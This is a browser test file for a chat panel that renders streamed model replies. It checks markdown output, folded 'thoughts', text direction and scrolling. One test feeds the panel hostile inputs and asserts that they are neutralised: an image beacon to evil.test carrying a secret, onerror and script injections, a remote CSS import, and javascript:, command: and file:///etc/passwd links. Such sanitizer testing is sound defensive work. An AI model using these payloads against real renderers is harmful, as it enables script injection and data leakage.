import assert from 'node:assert/strict';
import { hostilePayloads } from '../../unit/webview/hostilePayloads';
import { longReply, show, turn } from './scenes';
import { useBrowser } from './useBrowser';

describe('a reply in the panel', () => {
  const open = useBrowser();

  it('is an article that is busy while it streams, after a line that says so', async () => {
    const panel = await open();
    const { page, reply } = panel;
    await panel.send(show([turn({ running: true })]));
    const waiting = page.locator('.waiting-text');
    assert.equal(await waiting.innerText(), 'Looking at the image…');
    assert.equal(await reply.getAttribute('aria-busy'), 'true');

    await panel.send({ type: 'text', turn: 0, text: 'Hello **wor' });
    await waiting.waitFor({ state: 'hidden' });
    assert.equal(await reply.innerHTML(), '<p dir="auto">Hello <strong>wor</strong></p>');

    await panel.send({ type: 'text', turn: 0, text: 'ld**\n\nEnd' });
    await reply.getByText('End').waitFor();
    await panel.send({ type: 'turn', turn: turn({ reply: 'Hello **world**\n\nEnd.' }) });
    assert.equal(
      await reply.innerHTML(),
      '<p dir="auto">Hello <strong>world</strong></p><p dir="auto">End.</p>',
    );
    assert.equal(await reply.getAttribute('aria-busy'), 'false');
    assert.equal(await page.locator('.waiting').isVisible(), false);
  });

  it('shows its first words in the same task in which they arrive', async () => {
    const panel = await open();
    await panel.send(show([turn({ running: true })]));
    const shown = await panel.page.evaluate(() => {
      window.dispatchEvent(
        new MessageEvent('message', { data: { type: 'text', turn: 0, text: 'First' } }),
      );
      return document.querySelector('article')?.textContent;
    });
    assert.equal(shown, 'First');
  });

  it('loads nothing, runs nothing and links nowhere odd, whatever it says', async () => {
    const panel = await open();
    const hostile = [
      '![beacon](https://evil.test/p.png?secret)',
      '<img src="https://evil.test/q.png" onerror="document.title=\'hit\'">',
      '<script>document.title="hit"</script>',
      '<style>@import "https://evil.test/a.css";</style>',
      '[a](command:workbench.action.quit) [b](JaVaScRiPt:document.title="hit") [c](file:///etc/passwd)',
      '[d](vscode:extension/x.y) [e](data:text/html,x) [f](https://a.test/)',
      '| a | b |\n| :-: | --: |\n| <b>1</b> | ![x](http://evil.test/) |',
      '```"><img/src=x>\n<img src=x onerror=alert(1)>\n```',
    ].join('\n\n');
    await panel.send(show([turn({ running: true })]));
    for (let at = 0; at < hostile.length; at += 7) {
      await panel.send({ type: 'text', turn: 0, text: hostile.slice(at, at + 7) });
    }
    await panel.send({ type: 'turn', turn: turn({ reply: hostile }) });
    await panel.reply.getByRole('link', { name: 'f', exact: true }).waitFor();
    assert.deepEqual(
      await panel.reply
        .locator('a')
        .evaluateAll((links) =>
          links.map((link) => [link.getAttribute('href'), link.getAttribute('title')]),
        ),
      [['https://a.test/', 'https://a.test/']],
    );
    assert.equal(await panel.reply.locator('img, script, style, iframe, [style]').count(), 0);
    assert.equal(await panel.page.title(), 'Sightline');
  });

  it('makes nothing but text, links and its own elements of hundreds of hostile replies', async () => {
    const panel = await open();
    const turns = Object.values(hostilePayloads).map((reply, id) => turn({ id, reply }));
    await panel.send(show(turns));
    const [names = [], attributes = [], schemes = []] = await panel.reply.evaluateAll((replies) => {
      const all = replies.flatMap((reply) => [...reply.querySelectorAll('*')]);
      return [
        all.map(({ localName }) => localName),
        all.flatMap((made) => made.getAttributeNames()),
        all.map((made) => (made instanceof HTMLAnchorElement ? made.protocol : '')),
      ].map((list) => [...new Set(list)].sort());
    });
    assert.equal(
      names.join(' '),
      'a blockquote br button code div em h3 input label li p path pre rect span strong svg table tbody td th thead tr ul',
    );
    assert.equal(
      attributes.join(' '),
      'aria-hidden aria-label checked class d data-language dir disabled height href rel role rx title type viewBox width x y',
    );
    assert.equal(schemes.join(' '), ' https:');
    assert.equal(await panel.page.title(), 'Sightline');
  });

  it('folds the thoughts of a model away, while they stream and after, and copies none', async () => {
    const panel = await open();
    const { page, reply } = panel;
    const fold = page.locator('details.thoughts');
    const source = '<think>\nIt shows **a form**.\n\n</think>\n\nA login form with *two* fields.';
    await panel.send(show([turn({ running: true })]));
    assert.equal(await fold.isVisible(), false);
    await panel.send({ type: 'text', turn: 0, text: source.slice(0, 22) });
    await page.getByText('Thoughts', { exact: true }).waitFor();
    assert.equal(await reply.textContent(), '');
    assert.equal(await page.locator('.waiting-text').isVisible(), true);

    for (let at = 22; at < source.length; at += 5) {
      await panel.send({ type: 'text', turn: 0, text: source.slice(at, at + 5) });
    }
    await reply.getByText('two').waitFor();
    await panel.send({ type: 'turn', turn: turn({ reply: source }) });
    assert.equal(await reply.innerText(), 'A login form with two fields.');
    const text = page.getByText('It shows **a form**.', { exact: true });
    assert.equal(await text.isVisible(), false);
    await page.getByText('Thoughts', { exact: true }).click();
    assert.equal(await text.isVisible(), true);
    await page.getByRole('button', { name: 'Copy', exact: true }).click();
    assert.equal((await panel.posted('copy')).text, 'A login form with two fields.');
  });

  it('takes what it showed for thoughts when only their end is told', async () => {
    const panel = await open();
    await panel.send(show([turn({ running: true })]));
    await panel.send({ type: 'text', turn: 0, text: 'First a look.\n\nThen' });
    await panel.reply.getByText('Then').waitFor();
    await panel.send({ type: 'text', turn: 0, text: ' more.\n</think>\n\nTwo' });
    await panel.send({ type: 'text', turn: 0, text: ' fields.' });
    await panel.reply.getByText('Two fields.').waitFor();
    assert.equal(await panel.reply.innerText(), 'Two fields.');
    assert.equal(
      await panel.page.locator('.thoughts-text').textContent(),
      'First a look.\n\nThen more.',
    );
  });

  it('shows no thoughts where there are none', async () => {
    const panel = await open();
    await panel.send(show([turn({ reply: 'The page shows a `<think>` tag.' })]));
    assert.equal(await panel.reply.innerText(), 'The page shows a <think> tag.');
    assert.equal(await panel.page.locator('details.thoughts').isVisible(), false);
  });

  it('labels the checkboxes of tasks, which cannot be changed', async () => {
    const panel = await open();
    await panel.send(show([turn({ reply: '- [x] Add a **label**\n- [ ] Raise the contrast' })]));
    const done = panel.reply.getByRole('checkbox', { name: 'Add a label', exact: true });
    const todo = panel.reply.getByRole('checkbox', { name: 'Raise the contrast', exact: true });
    assert.deepEqual([await done.isChecked(), await todo.isChecked()], [true, false]);
    assert.deepEqual([await done.isDisabled(), await todo.isDisabled()], [true, true]);
  });

  it('lays out each block in the direction of its text', async () => {
    const panel = await open();
    const source =
      'صورة لنموذج تسجيل الدخول\n\nA form\n\n- שדה אחד\n- Two\n\n> ציטוט\n\n| الحقل | B |\n|---|---|\n| 1 | two |\n\n`a.b()` הוא';
    await panel.send(show([turn({ reply: source })]));
    const directions = await panel.reply
      .locator('p, ul, li, blockquote, table, td')
      .evaluateAll((blocks) =>
        blocks.map((block) => {
          const { direction } = getComputedStyle(block);
          return `${block.localName} ${direction}`;
        }),
      );
    assert.deepEqual(directions, [
      'p rtl', 'p ltr', 'ul rtl', 'li rtl', 'li rtl', 'p ltr', 'blockquote rtl', 'p rtl',
      'table rtl', 'td ltr', 'td ltr', 'p ltr',
    ]); // prettier-ignore
  });

  it('resolves a link whose target is defined at the end', async () => {
    const panel = await open();
    const source = 'See [docs][1].\n\nMore.\n\n[1]: https://a.test/docs\n';
    await panel.send(show([turn({ running: true })]), { type: 'text', turn: 0, text: source });
    await panel.send({ type: 'turn', turn: turn({ reply: source }) });
    assert.equal(
      await panel.reply.getByRole('link', { name: 'docs' }).getAttribute('href'),
      'https://a.test/docs',
    );
  });

  it('is the same at its end as if it had come at once', async () => {
    const streamed = await open();
    await streamed.send(show([turn({ running: true })]));
    for (let at = 0; at < longReply.length; at += 23) {
      await streamed.send({ type: 'text', turn: 0, text: longReply.slice(at, at + 23) });
    }
    await streamed.send({ type: 'turn', turn: turn({ reply: longReply }) });
    const whole = await open();
    await whole.send(show([turn({ reply: longReply })]));
    assert.equal(await streamed.reply.innerHTML(), await whole.reply.innerHTML());
  });

  it('goes on where it was cut', async () => {
    const panel = await open();
    await panel.send(show([turn({ reply: 'One\n\nTwo is' })]));
    await panel.send({ type: 'turn', turn: turn({ reply: 'One\n\nTwo is', running: true }) });
    await panel.send({ type: 'text', turn: 0, text: ' longer\n\nThree' });
    await panel.reply.getByText('Three').waitFor();
    assert.equal(await panel.reply.innerText(), 'One\n\nTwo is longer\n\nThree');
  });

  it('keeps a selection and leaves finished blocks alone while it grows', async () => {
    const panel = await open();
    await panel.send(show([turn({ running: true })]));
    await panel.send({ type: 'text', turn: 0, text: '# Title\n\nFirst block.\n\nSecond block' });
    await panel.reply.getByText('Second').waitFor();
    await panel.page.evaluate(() => {
      const [first, second] = [...document.querySelectorAll('article p')];
      getSelection()?.setBaseAndExtent(
        first?.firstChild ?? document,
        2,
        second?.firstChild ?? document,
        6,
      );
      new MutationObserver(() => (document.title = 'touched')).observe(first ?? document, {
        subtree: true,
        childList: true,
        characterData: true,
        attributes: true,
      });
    });
    await panel.send({ type: 'text', turn: 0, text: ' grows\n\nand a third' });
    await panel.reply.getByText('third').waitFor();
    assert.equal(
      await panel.page.evaluate(() => getSelection()?.toString().replace(/\s+/g, ' ')),
      'rst block. Second',
    );
    assert.equal(await panel.page.title(), 'Sightline');
  });

  it('follows a growing reply until its question is at the top', async () => {
    const panel = await open({ height: 400 });
    const { page } = panel;
    // What the images in small leave of the page's top.
    const top = 42;
    const questionTop = () =>
      page.evaluate(() => document.querySelector('.turn')?.getBoundingClientRect().top ?? NaN);
    await panel.send(show([turn({ running: true })]));
    await panel.send({ type: 'text', turn: 0, text: 'Line\n\n'.repeat(8) });
    await panel.reply.getByText('Line').nth(7).waitFor();
    const fromEnd = await page.evaluate(
      () =>
        document.documentElement.scrollHeight -
        document.documentElement.clientHeight -
        Math.round(scrollY),
    );
    assert.ok(fromEnd < 2 || Math.abs((await questionTop()) - top) < 2);
    await panel.send({ type: 'text', turn: 0, text: `${'Line\n\n'.repeat(40)}Last` });
    await panel.reply.getByText('Last').waitFor();
    assert.ok(Math.abs((await questionTop()) - top) < 2);
  });

  it('stays where the reader has scrolled to', async () => {
    const panel = await open({ height: 400 });
    const { page } = panel;
    await panel.send(show([turn({ running: true })]));
    await panel.send({ type: 'text', turn: 0, text: `${'Line\n\n'.repeat(40)}Last` });
    await panel.reply.getByText('Last').waitFor();
    for (const place of [30, 500, 100_000]) {
      const before = await page.evaluate((to) => {
        document.documentElement.scrollTop = to;
        return scrollY;
      }, place);
      const text = `More after ${place}`;
      await panel.send({ type: 'text', turn: 0, text: `\n\n${text}` });
      await panel.reply.getByText(text).waitFor();
      assert.equal(await page.evaluate(() => scrollY), before);
    }
  });
});
